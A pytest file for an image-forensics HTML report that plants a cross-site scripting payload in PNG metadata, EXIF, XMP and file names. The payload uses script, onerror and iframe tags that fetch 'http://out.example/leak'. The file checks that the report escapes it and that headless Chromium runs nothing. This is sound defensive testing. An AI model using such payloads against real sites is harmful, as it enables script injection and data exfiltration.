"""The report in a browser, with every text field hostile."""

import html.parser
import http.server
import json
import re
import shutil
import subprocess
import threading

import numpy as np
import pytest
from conftest import photo
from PIL import Image, PngImagePlugin
from toy_model import INFO, write_model

from damagenet.claims import Detector, page
from damagenet.claims.review import review
from damagenet.claims.signals import Reused

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "chrome"))), None)
browser = pytest.mark.skipif(BROWSER is None, reason="needs Chromium")
RUN = "document.documentElement.dataset.ran=1;fetch('http://out.example/leak')"
EVIL = (
    f"]]><script>{RUN}</script>\"'><img src=http://out.example/leak onerror={RUN}>"
    "<iframe src='http://out.example/leak'></iframe><!--<![CDATA[<svg onload=a()>{{7*7}}{code}&amp;"
)
NAME = EVIL.replace("/", "_").replace("document.documentElement", "d")[:200]


class Page(html.parser.HTMLParser):
    """Tags and attributes as a browser reads them."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes = [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A report of files whose names and fields all want to run or to load something."""
    folder = tmp_path_factory.mktemp("hostile")
    info = PngImagePlugin.PngInfo()
    fields = {"Label": "1", "ContentProducer": EVIL, EVIL: EVIL}
    info.add_text("AIGC", json.dumps(fields))
    info.add_text("parameters", f"{EVIL} Steps: 3, Sampler: x")
    info.add_text("prompt", json.dumps({EVIL: EVIL}))
    info.add_text("Software", EVIL)
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0131] = EVIL, EVIL, EVIL
    xmp = (
        '<r xmlns:e="http://iptc.org/std/Iptc4xmpExt/2008-02-29/" '
        'xmlns:x="http://ns.adobe.com/xap/1.0/">'
        f"<e:DigitalSourceType><![CDATA[{EVIL[3:]}]]></e:DigitalSourceType>"
        f"<x:CreatorTool><![CDATA[{EVIL[3:]}]]></x:CreatorTool></r>"
    )
    info.add_itxt("XML:com.adobe.xmp", xmp)
    paths = [folder / f"{i}{NAME}\u202e.png" for i in range(2)]
    for path in paths:
        Image.fromarray(photo()).save(path, pnginfo=info, exif=exif)
        exif[0x0110] = EVIL + "2"
    model = {k: EVIL for k in ("version", "licence", "metrics", "dataset_sha256")}
    detector = Detector(write_model(folder / "m.onnx", INFO | model, constant=0.1), threads=1)
    out = folder / "r.html"
    report = review(
        [*paths, folder / f"gone{NAME}.png"], paths[1], detector, out, claim_id=EVIL,
        reused=[Reused(1, (EVIL,))],
    )  # fmt: skip
    assert len(report["labels"]) >= 12
    assert {n["code"] for n in report["notices"]} >= {"notice_cameras", "notice_reused"}
    return out


def opened(page, folder, *options):
    """The page after its scripts ran, as text."""
    done = subprocess.run(
        [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder}",
         "--virtual-time-budget=1500", *options, "--dump-dom", page.as_uri()],
        capture_output=True, timeout=120, check=True,
    )  # fmt: skip
    return done.stdout.decode("utf-8")


@pytest.fixture(scope="module")
def outside():
    """A server that stands for the whole internet, and the paths it was asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"--host-resolver-rules=MAP * 127.0.0.1:{server.server_port}", asked
    server.shutdown()


def test_hostile_texts_become_no_markup(hostile):
    text = hostile.read_text("utf-8")
    page = Page(text)
    assert page.tags.count("script") == 1 and "iframe" not in page.tags
    assert not [k for k, _ in page.attributes if k.startswith("on")]
    sources = [v for k, v in page.attributes if k in ("src", "href")]
    assert sources and all(v.startswith("data:image/jpeg;base64,") for v in sources)
    assert "&lt;script&gt;" in text and "{{7*7}}" in text and "\u202e" not in text


@browser
def test_a_browser_runs_nothing_and_asks_for_nothing(hostile, outside, tmp_path):
    rules, asked = outside
    control = tmp_path / "control.html"
    control.write_text(f"<html><body>{EVIL}</body></html>")
    assert "data-ran" in opened(control, tmp_path / "a", rules)  # the test can fail
    assert "/leak" in asked
    asked.clear()
    dom = opened(hostile, tmp_path / "b", rules)
    assert "data-ran" not in dom and "/leak" not in asked
    assert Page(dom).tags.count("script") == 1


@browser
@pytest.mark.parametrize("language, shown", [("zh-CN", "zh-Hans"), ("en-GB", "en")])
def test_the_browser_chooses_the_language_unless_told(language, shown, hostile, tmp_path):
    dom = opened(hostile, tmp_path, f"--accept-lang={language}")
    assert f'<html lang="{shown}"' in dom


@pytest.mark.parametrize("language, shown", [("en", "en"), ("zh", "zh-Hans"), ("auto", "en")])
def test_both_languages_are_there_and_one_is_chosen(language, shown, tmp_path):
    Image.fromarray(photo()).save(tmp_path / "a.png")
    detector = Detector(write_model(tmp_path / "m.onnx", constant=0.1), threads=1)
    review([tmp_path / "a.png"], None, detector, tmp_path / "r.html", language=language)
    text = (tmp_path / "r.html").read_text("utf-8")
    assert f'<html lang="{shown}"' in text and ("data-auto" in text) == (language == "auto")
    (chosen,) = re.findall(r'id="show-(\w\w)" value="\w\w" checked', text)
    assert chosen == ("zh" if language == "zh" else "en")
    assert text.count('<span lang="en">') == text.count('<span lang="zh-Hans">') > 30
    assert "No listing photo was given" in text and "未提供商品图" in text


def test_a_model_that_promises_nothing(tmp_path):
    noise = np.random.default_rng(0).integers(0, 256, (70, 90, 3), np.uint8)
    Image.fromarray(noise).save(tmp_path / "a.png")
    info = INFO | {"false_alarm_rate": None, "review_false_alarm_rate": None}
    detector = Detector(write_model(tmp_path / "m.onnx", info, constant=0.1), threads=1)
    report = review([tmp_path / "a.png"], None, detector, tmp_path / "r.html")
    assert [m["code"] for m in report["promise"]] == ["promise_unknown", "promise_scope"]


def test_specks_that_no_finding_counts_are_not_outlined():
    changed = np.zeros((200, 300), np.float32)
    changed[10:13, 10:13] = 1  # .015 % of the photo
    assert not page._counted(changed).any() and page._shapes(page._counted(changed)) == []
    changed[100:120, 50:90] = 1
    counted = page._counted(changed)
    assert counted.sum() == 800 and len(page._shapes(counted)) == 1
